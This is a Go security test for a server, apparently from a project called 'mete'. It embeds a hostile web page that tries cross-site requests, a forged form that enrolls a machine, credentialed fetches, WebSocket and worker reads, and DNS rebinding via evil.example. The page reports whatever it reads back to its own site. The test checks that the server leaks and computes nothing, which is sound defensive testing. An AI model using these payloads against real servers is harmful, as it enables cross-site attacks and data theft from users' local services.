package attack_test

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"mete.dev/mete/internal/pki/enroll"
	"mete.dev/mete/internal/testkit"
	"mete.dev/mete/internal/testkit/attack"
	"mete.dev/mete/internal/testkit/hosttest"
)

// foreignPage tries everything by which a page can make a browser send a request to another site.
// It reports what it could read to its own site, and ends with a report of "done".
const foreignPage = `<!doctype html><title>foreign</title>
<img src="TARGET/api/v1/query?query=img"><script src="TARGET/api/v1/query?query=script"></script>
<link rel="stylesheet" href="TARGET/api/v1/query?query=style"><iframe name="frame" src="TARGET/api/v1/query?query=frame"></iframe>
<object data="TARGET/api/v1/query?query=object"></object><video src="TARGET/api/v1/query?query=video"></video>
<form id="form" method="POST" enctype="text/plain" target="frame" action="TARGET/v1/enroll"><input name='{"machine_id":"m","boot":"b","name":"from-a-form","x":"' value='"}'></form>
<form id="query" method="POST" target="frame2" action="TARGET/api/v1/query"><input name="query" value="form"></form><iframe name="frame2"></iframe>
<script>
const report = (what) => fetch("/report?" + encodeURIComponent(what));
const attempt = async (what, f) => { try { await report(what + " read " + await f()); } catch (e) { } };
const text = async (path, options) => (await fetch("TARGET" + path, options)).text();
const socket = (kind) => new Promise((ok, no) => { const s = kind(); s.onopen = () => ok("open"); s.onmessage = (m) => ok(m.data); s.onerror = no; });
(async () => {
  document.getElementById("form").submit();
  document.getElementById("query").submit();
  navigator.sendBeacon("TARGET/api/v1/query", new URLSearchParams({query: "beacon"}));
  const posted = {method: "POST", mode: "no-cors", credentials: "include"};
  await attempt("fetch", () => text("/api/v1/query?query=fetch"));
  await attempt("fetch opaque", async () => { await fetch("TARGET/api/v1/query?query=opaque", {mode: "no-cors", credentials: "include"}); throw 0; });
  await attempt("post", () => text("/v1/enroll", {...posted, body: '{"machine_id":"m","boot":"b","name":"from-fetch"}'}).then((t) => { if (!t) throw 0; return t; }));
  await attempt("post with a type", () => text("/v1/enroll", {method: "POST", headers: {"Content-Type": "application/json"}, body: '{"machine_id":"m","boot":"b","name":"from-cors"}'}));
  await attempt("with a token", () => text("/v1/nodes", {headers: {Authorization: "Bearer guess"}}));
  await attempt("websocket", () => socket(() => new WebSocket("TARGET".replace("http", "ws") + "/api/v1/query?query=websocket")));
  await attempt("events", () => socket(() => new EventSource("TARGET/api/v1/query?query=events")));
  await attempt("worker", () => new Promise((ok, no) => { const w = new Worker("TARGET/api/v1/query?query=worker"); w.onerror = no; w.onmessage = ok; }));
  await attempt("window", async () => { const w = frames[0]; return w.document.body.innerText || (() => { throw 0; })(); });
  await report("done");
})();
</script>`

// TestForeignPageInChromium opens a page of another origin, of another site, and of a name that
// leads to this machine (DNS rebinding), beside a server without TLS that its user has opened in
// the same browser. The server computes nothing for it, and the page reads nothing.
func TestForeignPageInChromium(t *testing.T) {
	testkit.Stage(t, "pages", "a browser opens pages that attack a server")
	hosttest.Need(t, "chromium")
	log := filepath.Join(t.TempDir(), "queries")
	s := attack.StartServer(t, programs, attack.Config{}, "--insecure", "--query-log", log)
	t.Setenv("METE_STATE", s.State)
	victim, err := s.Enroll(t, "", enroll.Facts{Machine: "m0", Boot: "b0", Name: "payroll-host"})
	if err != nil {
		t.Fatal(err)
	}
	viewer := s.Token(t, "viewer")
	port := s.URL[strings.LastIndex(s.URL, ":")+1:]
	for _, c := range []struct{ name, page, target string }{
		{"other origin", "localhost", s.URL},
		{"same address", "127.0.0.1", s.URL},
		{"other site", "evil.example", s.URL},
		{"rebound name", "evil.example", "http://evil.example:" + port},
	} {
		t.Run(c.name, func(t *testing.T) {
			var mu sync.Mutex
			var reports []string
			ln, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			site := &http.Server{ReadHeaderTimeout: time.Minute, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path == "/report" {
					mu.Lock()
					reports = append(reports, r.URL.RawQuery)
					mu.Unlock()
					return
				}
				w.Header().Set("Content-Type", "text/html")
				_, _ = fmt.Fprint(w, strings.ReplaceAll(foreignPage, "TARGET", c.target))
			})}
			go func() { _ = site.Serve(ln) }()
			t.Cleanup(func() { _ = site.Close() })
			_, own, err := net.SplitHostPort(ln.Addr().String())
			if err != nil {
				t.Fatal(err)
			}
			home := t.TempDir()
			browser := attack.Start(t, attack.Config{Env: []string{"HOME=" + home}}, "chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
				"--disable-background-networking", "--disable-component-update", "--disable-sync", "--user-data-dir="+filepath.Join(home, "data"), "--host-resolver-rules=MAP evil.example 127.0.0.1",
				"--remote-debugging-port=0", "http://"+c.page+":"+own+"/")
			testkit.Eventually(t, "the page has tried everything", func() bool {
				if browser.Ended() {
					t.Fatalf("chromium ended: %s", browser.Log.String())
				}
				mu.Lock()
				defer mu.Unlock()
				return len(reports) > 0 && reports[len(reports)-1] == "done"
			})
			_ = browser.Stop() // it ends with a signal
			for _, r := range reports {
				if r != "done" && !strings.Contains(r, "authentication%20required") && !strings.Contains(r, "421") {
					t.Errorf("the page reports %.500s", r)
				}
				if strings.Contains(r, victim.ID) || strings.Contains(r, "payroll") {
					t.Errorf("the page reads the victim: %s", r)
				}
			}
			b, err := os.ReadFile(log)
			if err != nil {
				t.Fatal(err)
			}
			for line := range strings.Lines(string(b)) {
				if !strings.Contains(line, `"ruleGroup"`) {
					t.Errorf("the server computed for the page: %s", line)
				}
			}
			if a := s.Do(t, http.MethodGet, "/v1/nodes", nil, attack.Bearer(viewer)...); strings.Count(a.Body, `"node":`) != 1 {
				t.Errorf("the page enrolled a machine: %s", a.Body)
			}
		})
	}
	s.Check(t, mostMemory)
}
